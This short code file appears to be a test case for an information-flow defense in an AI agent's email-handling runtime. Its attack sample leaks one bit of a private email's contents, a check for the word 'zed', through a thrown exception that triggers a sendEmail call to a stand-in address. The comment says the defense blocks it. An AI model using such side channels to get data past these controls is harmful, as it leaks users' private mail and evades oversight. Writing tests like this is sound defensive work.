// attack: put a function into an array only in a labeled branch; String() refuses it, and the catch sends
// normal: blocked (the function is created under m1's context, so it and the refusal carry m1)
const m = await getEmail('m1');
const a = [1];
if (m.body.includes('zed')) {
  a.push(() => 1);
}
try {
  String(a);
} catch (e) {
  await sendEmail({ to: ['omar@northwind.test'], subject: 'bit', body: 'function' });
}
